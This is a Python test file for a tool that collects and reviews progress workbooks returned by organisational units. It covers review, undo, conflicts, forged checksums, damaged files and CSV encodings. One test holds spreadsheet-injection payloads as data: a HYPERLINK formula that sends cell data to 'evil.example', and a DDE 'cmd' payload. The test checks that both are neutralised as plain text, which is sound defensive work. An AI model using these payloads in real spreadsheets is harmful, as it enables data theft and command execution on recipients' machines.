"""收集: returned workbooks in every state a unit sends them, and each attack on the review."""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import roundkit
from roundkit import FINANCE, SHARED, Returned

from rectdesk.domain.model import LedgerKind, Role, Status
from rectdesk.domain.rounds import Column
from rectdesk.services.collect import CollectPlan, plan_collect
from rectdesk.services.collect_apply import accept_command, apply_collect, source
from rectdesk.services.dispatch import DispatchResult, dispatch
from rectdesk.services.items import ItemService
from rectdesk.store import Store
from rectdesk.store.rounds import RoundBook


def _item(store: Store, number: str) -> int:
    return next(i.id for i in store.items() if i.number == number)


def _finance(sent: DispatchResult) -> Returned:
    return Returned(roundkit.file_of(sent, "财务处"))


def _changes(plan: CollectPlan) -> set[tuple[str, str, str, str]]:
    return {(c.item_label, c.field.value, c.new, c.unit) for c in plan.changes}


def _messages(plan: CollectPlan) -> str:
    return "\n".join(p["message"] for p in plan.problems())


def test_review_shows_old_and_new_and_writes_nothing(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    path = (
        _finance(sent)
        .set(FINANCE, "整改进展", "已举办培训2期")
        .set(FINANCE, "完成情况", "已完成")
        .set(FINANCE, "完成时间", dt.datetime(2023, 11, 15))
        .set(FINANCE, "佐证材料", "培训通知")
        .save(tmp_path / "财务处.xlsx")
    )
    before = [(i.id, i.progress, i.status, i.extra) for i in demo_store.items()]
    plan = plan_collect(demo_store, [path])
    assert plan.round_number == 1 and plan.batch_id == roundkit.BATCH
    assert _changes(plan) == {
        (FINANCE, "progress", "已举办培训2期", "财务处"),
        (FINANCE, "status", Status.COMPLETED.label, "财务处"),
        (FINANCE, "completed_on", "2023年11月15日", "财务处"),
        (FINANCE, "evidence", "培训通知", "财务处"),
    }
    status = next(c for c in plan.changes if c.field is Column.STATUS)
    assert status.old == Status.PENDING.label and status.accepted
    assert [(i.id, i.progress, i.status, i.extra) for i in demo_store.items()] == before
    assert RoundBook(demo_store).latest(1).units[-1].returned_at is None  # type: ignore[union-attr]


def test_accepted_changes_are_one_transaction_undone_as_one_step(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    path = (
        _finance(sent)
        .set(FINANCE, "整改进展", "已举办培训2期")
        .set(FINANCE, "完成情况", "已完成")
        .set(FINANCE, "联系人", "李四")
        .save(tmp_path / "财务处.xlsx")
    )
    item_id = _item(demo_store, FINANCE)
    before = (demo_store.item(item_id), demo_store.ledger(item_id))
    plan = plan_collect(demo_store, [path])
    command = apply_collect(demo_store, plan, actor="测试", today=dt.date(2023, 12, 1))
    item = demo_store.item(item_id)
    assert item.progress == "已举办培训2期" and item.status is Status.COMPLETED
    entries = demo_store.ledger(item_id)
    assert {(e.kind, e.author) for e in entries} == {
        (LedgerKind.PROGRESS, source("财务处", 1)),
        (LedgerKind.REPLY, source("财务处", 1)),
    }
    unit = next(u for u in RoundBook(demo_store).latest(1).units if u.unit == "财务处")  # type: ignore[union-attr]
    assert unit.returned_at is not None and unit.contact == "李四"
    command.undo()
    after = (demo_store.item(item_id), demo_store.ledger(item_id))
    assert after[1] == before[1] and after[0].status is before[0].status
    assert after[0].progress == before[0].progress
    unit = next(u for u in RoundBook(demo_store).latest(1).units if u.unit == "财务处")  # type: ignore[union-attr]
    assert unit.returned_at is None
    command.do()  # redo
    assert demo_store.item(item_id).status is Status.COMPLETED


def test_a_failure_while_writing_leaves_everything_as_it_was(
    demo_store: Store, sent: DispatchResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _finance(sent).set(FINANCE, "整改进展", "进展").save(tmp_path / "a.xlsx")
    plan = plan_collect(demo_store, [path])
    item_id = _item(demo_store, FINANCE)
    before = demo_store.ledger(item_id)

    def broken(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("disk pulled out")

    monkeypatch.setattr(RoundBook, "add_answers", broken)
    with pytest.raises(RuntimeError):
        apply_collect(demo_store, plan, actor="测试")
    assert demo_store.ledger(item_id) == before


def test_a_plan_grown_stale_is_refused_whole(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    path = _finance(sent).set(FINANCE, "整改措施", "新措施").save(tmp_path / "a.xlsx")
    plan = plan_collect(demo_store, [path])
    ItemService(demo_store, "测试").edit(_item(demo_store, FINANCE), {"measures": "别人改的"}).do()
    with pytest.raises(Exception, match="审核期间被修改过"):
        apply_collect(demo_store, plan, actor="测试")
    assert demo_store.item(_item(demo_store, FINANCE)).measures == "别人改的"


def test_lead_and_assisting_units_side_by_side(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    lead = (
        _finance(sent)
        .set(SHARED, "完成情况", "整改中")
        .set(SHARED, "整改进展", "牵头单位的进展")
        .save(tmp_path / "财务处.xlsx")
    )
    assist = (
        Returned(roundkit.file_of(sent, "规划处"))
        .set(SHARED, "完成情况", "已完成")
        .set(SHARED, "整改进展", "配合单位的进展")
        .save(tmp_path / "规划处.xlsx")
    )
    plan = plan_collect(demo_store, [assist, lead])  # any order
    (group,) = plan.conflicts()
    assert {(c.unit, c.role, c.accepted) for c in group} == {
        ("财务处", Role.LEAD, True),
        ("规划处", Role.ASSIST, False),
    }
    progress = [c for c in plan.changes if c.field is Column.PROGRESS]
    assert all(c.accepted for c in progress) and not any(c.conflict for c in progress)
    # Taking the assisting unit's value drops the lead's: one value per field.
    chosen = next(c for c in group if c.role is Role.ASSIST)
    moved = plan.set_accepted(chosen, True)
    assert {c.unit for c in moved} == {"规划处", "财务处"}
    assert [c.accepted for c in group if c.role is Role.LEAD] == [False]
    apply_collect(demo_store, plan, actor="测试")
    item_id = _item(demo_store, SHARED)
    item = demo_store.item(item_id)
    assert item.status is Status.COMPLETED
    # The lead's progress is the item's; the assisting unit's is added beside it.
    assert item.progress == "牵头单位的进展"
    authors = {(e.kind, e.text, e.author) for e in demo_store.ledger(item_id)}
    assert (LedgerKind.REPLY, "配合单位的进展", source("规划处", 1)) in authors


def test_accept_per_field_item_unit_and_all(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    lead = (
        _finance(sent)
        .set(FINANCE, "整改进展", "甲")
        .set(FINANCE, "整改措施", "乙")
        .set(SHARED, "整改进展", "丙")
        .save(tmp_path / "财务处.xlsx")
    )
    assist = (
        Returned(roundkit.file_of(sent, "规划处"))
        .set(SHARED, "整改进展", "丁")
        .save(tmp_path / "规划处.xlsx")
    )
    plan = plan_collect(demo_store, [lead, assist])
    for change in plan.changes:  # reject everything, then take some back
        plan.set_accepted(change, False)
    measures = next(c for c in plan.changes if c.field is Column.MEASURES)
    plan.set_accepted(measures, True)  # one field
    for change in plan.changes:  # one unit
        if change.unit == "规划处":
            plan.set_accepted(change, True)
    apply_collect(demo_store, plan, actor="测试")
    finance = demo_store.item(_item(demo_store, FINANCE))
    assert finance.measures == "乙" and finance.progress != "甲"
    shared = demo_store.ledger(_item(demo_store, SHARED))
    assert [e.text for e in shared] == ["丁"]
    again = plan_collect(demo_store, [lead, assist])
    again.accept_all()
    assert all(c.accepted for c in again.changes if c.allowed)


def test_tampered_mark_is_refused_the_rest_of_the_file_reviewed(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    book = _finance(sent).set(FINANCE, "整改进展", "被篡改的行").set(SHARED, "整改进展", "正常的行")
    mark = str(book.get(FINANCE, "校验码（请勿改动）"))
    item_other = _item(demo_store, "0220200740300704")
    forged = mark.split(".")
    forged[3] = str(item_other)  # point the row at another item, keep the seal
    book.set(FINANCE, "校验码（请勿改动）", ".".join(forged))
    plan = plan_collect(demo_store, [book.save(tmp_path / "财务处.xlsx")])
    assert "校验码不对" in _messages(plan)
    assert _changes(plan) == {(SHARED, "progress", "正常的行", "财务处")}


def test_a_row_copied_from_another_units_file_is_refused(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    other = Returned(roundkit.file_of(sent, "监督处"))
    number = str(other.sheet.cell(4, 2).value)
    mark = str(other.sheet.cell(4, 14).value)
    book = _finance(sent).append({"编号": number, "整改进展": "抄来的", "校验码（请勿改动）": mark})
    plan = plan_collect(demo_store, [book.save(tmp_path / "财务处.xlsx")])
    assert "从别的单位或别的轮次的报送表复制来的" in _messages(plan)
    assert not plan.changes


def test_a_file_of_an_earlier_round_or_another_batch(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    old = _finance(sent).set(FINANCE, "整改进展", "第一轮的").save(tmp_path / "第1轮.xlsx")
    second = roundkit.send(demo_store, tmp_path / "第2轮")
    new = (
        Returned(roundkit.file_of(second, "财务处"))
        .set(FINANCE, "整改进展", "第二轮的")
        .save(tmp_path / "第2轮-财务处.xlsx")
    )
    other_batch = dispatch(demo_store, 3, tmp_path / "另一批", actor="测试")
    foreign_path = Returned(other_batch.files[0].path).save(tmp_path / "另一批.xlsx")
    plan = plan_collect(demo_store, [old, new, foreign_path])
    assert plan.round_number == 2
    text = _messages(plan)
    assert "“第1轮.xlsx”是第1轮的报送表，现在收集的是第2轮" in text
    assert "“另一批.xlsx”是另一个批次的报送表" in text
    assert _changes(plan) == {(FINANCE, "progress", "第二轮的", "财务处")}


def test_protected_column_edits_are_named_and_not_written(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    path = (
        _finance(sent)
        .set(FINANCE, "问题/意见建议内容", "单位改写的问题")
        .set(FINANCE, "整改时限", "2030年底")
        .set(FINANCE, "整改进展", "照常审核的进展")
        .save(tmp_path / "财务处.xlsx")
    )
    item_before = demo_store.item(_item(demo_store, FINANCE))
    plan = plan_collect(demo_store, [path])
    text = _messages(plan)
    assert "受保护的“问题/意见建议内容”列被改动过" in text
    assert "受保护的“整改时限”列被改动过" in text
    assert _changes(plan) == {(FINANCE, "progress", "照常审核的进展", "财务处")}
    apply_collect(demo_store, plan, actor="测试")
    item = demo_store.item(item_before.id)
    assert item.content == item_before.content and item.deadline == item_before.deadline


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[: len(data) // 2],  # copy cut short
        lambda data: b"\x00" * 100,  # not a table at all
        lambda data: b"",  # empty
    ],
)
def test_a_damaged_file_is_one_sentence_the_other_files_reviewed(
    demo_store: Store, sent: DispatchResult, tmp_path: Path, damage: object
) -> None:
    good = _finance(sent).set(FINANCE, "整改进展", "好的").save(tmp_path / "好.xlsx")
    bad = tmp_path / "坏.xlsx"
    bad.write_bytes(damage(roundkit.file_of(sent, "监督处").read_bytes()))  # type: ignore[operator]
    plan = plan_collect(demo_store, [bad, good])
    problems = [p for p in plan.problems() if p["file"] == "坏.xlsx"]
    assert len(problems) == 1 and "坏.xlsx" in problems[0]["message"]
    assert "Traceback" not in problems[0]["message"]
    assert _changes(plan) == {(FINANCE, "progress", "好的", "财务处")}


def test_a_csv_save_in_gbk_is_read(demo_store: Store, sent: DispatchResult, tmp_path: Path) -> None:
    path = (
        _finance(sent)
        .set(FINANCE, "整改进展", "CSV 里的进展")
        .set(FINANCE, "完成情况", "整改中")
        .save_csv(tmp_path / "财务处.csv")
    )
    plan = plan_collect(demo_store, [path])
    assert _changes(plan) == {
        (FINANCE, "progress", "CSV 里的进展", "财务处"),
        (FINANCE, "status", Status.IN_PROGRESS.label, "财务处"),
    }
    assert not plan.problems()


def test_csv_without_marks_and_with_lost_leading_zeros(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    book = _finance(sent).delete_column("校验码（请勿改动）").set(SHARED, "整改进展", "无码")
    # Opened in Excel and saved again: the 编号 became a number and lost its zero.
    book.set(SHARED, "编号", int(SHARED))
    plan = plan_collect(demo_store, [book.save_csv(tmp_path / "第1轮整改进展报送表-财务处.csv")])
    assert _changes(plan) == {(SHARED, "progress", "无码", "财务处")}
    text = _messages(plan)
    assert "校验码列已被删除，已按编号和内容对应" in text
    assert "受保护" not in text  # a lost zero is not an edit


def test_moved_columns_sorted_rows_notes_and_extra_rows(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    book = (
        _finance(sent)
        .set(FINANCE, "整改进展", "列被移动")
        .set(SHARED, "完成情况", "整改中")
        .move_columns(["整改进展", "完成情况", "校验码（请勿改动）"])
        .reverse_rows()
    )
    book.sheet.cell(book.sheet.max_row + 2, 1).value = "说明：本单位负责人已审核。"
    book.append({"编号": "", "问题/意见建议内容": "单位自己加的新问题", "整改进展": "无关"})
    plan = plan_collect(demo_store, [book.save(tmp_path / "财务处.xlsx")])
    assert _changes(plan) == {
        (FINANCE, "progress", "列被移动", "财务处"),
        (SHARED, "status", Status.IN_PROGRESS.label, "财务处"),
    }
    assert "不是下发给该单位的事项" in _messages(plan)


def test_deleted_mark_column_matches_by_number_and_content_with_a_warning(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    book = _finance(sent).delete_column("校验码（请勿改动）").set(FINANCE, "整改进展", "按编号")
    book.set(SHARED, "整改进展", "按内容")
    book.set(SHARED, "编号", None)  # no 编号 left: matched by its content
    plan = plan_collect(demo_store, [book.save(tmp_path / "任意文件名.xlsx")])
    assert _changes(plan) == {
        (FINANCE, "progress", "按编号", "财务处"),
        (SHARED, "progress", "按内容", "财务处"),
    }
    assert "校验码列已被删除" in _messages(plan)


def test_formulas_in_returned_cells_are_read_as_text_and_stay_text(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    book = _finance(sent)
    book.set(FINANCE, "整改进展", attack)  # a real formula: no shown value was saved
    book.set(SHARED, "整改进展", "=cmd|' /C calc'!A0")
    book.sheet.cell(book.row_of(SHARED), book.column("整改进展")).data_type = "s"  # typed text
    plan = plan_collect(demo_store, [book.save(tmp_path / "财务处.xlsx")])
    assert "有公式，已按显示的文字读取" in _messages(plan)
    assert {c.new for c in plan.changes} == {"=cmd|' /C calc'!A0"}
    apply_collect(demo_store, plan, actor="测试")
    shared = demo_store.item(_item(demo_store, SHARED))
    assert shared.progress == "=cmd|' /C calc'!A0"
    # The next round's workbook carries it as a string cell, never a formula.
    second = roundkit.send(demo_store, tmp_path / "第2轮")
    sheet = Returned(roundkit.file_of(second, "财务处")).sheet
    cell = sheet.cell(Returned(roundkit.file_of(second, "财务处")).row_of(SHARED), 8)
    assert cell.value == "=cmd|' /C calc'!A0" and cell.data_type == "s"


def test_the_same_unit_twice_the_newer_file_wins(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    older = _finance(sent).set(FINANCE, "整改进展", "旧").save(tmp_path / "旧.xlsx")
    newer = _finance(sent).set(FINANCE, "整改进展", "新").save(tmp_path / "新.xlsx")
    os.utime(older, (1_700_000_000, 1_700_000_000))
    plan = plan_collect(demo_store, [newer, older])
    assert _changes(plan) == {(FINANCE, "progress", "新", "财务处")}
    assert "以较新的“新.xlsx”为准" in _messages(plan)


def test_a_status_a_unit_may_not_give_and_one_not_allowed(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    path = (
        _finance(sent)
        .set(FINANCE, "完成情况", "已销号")
        .set(SHARED, "完成情况", "随便写")
        .save(tmp_path / "财务处.xlsx")
    )
    plan = plan_collect(demo_store, [path])
    assert not plan.changes
    text = _messages(plan)
    assert "不能由报送单位填报" in text and "无法识别" in text


def test_a_file_that_is_not_a_returned_sheet(demo_store: Store, sent: DispatchResult,
                                             tmp_path: Path) -> None:  # fmt: skip
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["姓名", "年龄"])  # type: ignore[union-attr]
    book.save(tmp_path / "别的表.xlsx")
    plan = plan_collect(demo_store, [tmp_path / "别的表.xlsx"])
    assert "不是下发的报送表" in _messages(plan) and plan.round_number is None
    with pytest.raises(Exception, match="没有可以写入"):
        accept_command(demo_store, plan, actor=lambda: "测试")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_a_workbook_saved_again_by_another_office_program(
    demo_store: Store, sent: DispatchResult, tmp_path: Path
) -> None:
    (tmp_path / "in").mkdir()
    path = _finance(sent).set(FINANCE, "整改进展", "另存过").save(tmp_path / "in" / "财务处.xlsx")
    out = tmp_path / "out"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    plan = plan_collect(demo_store, [out / "财务处.xlsx"])
    assert _changes(plan) == {(FINANCE, "progress", "另存过", "财务处")}
    assert not [p for p in plan.problems() if "校验码" in p["message"]]
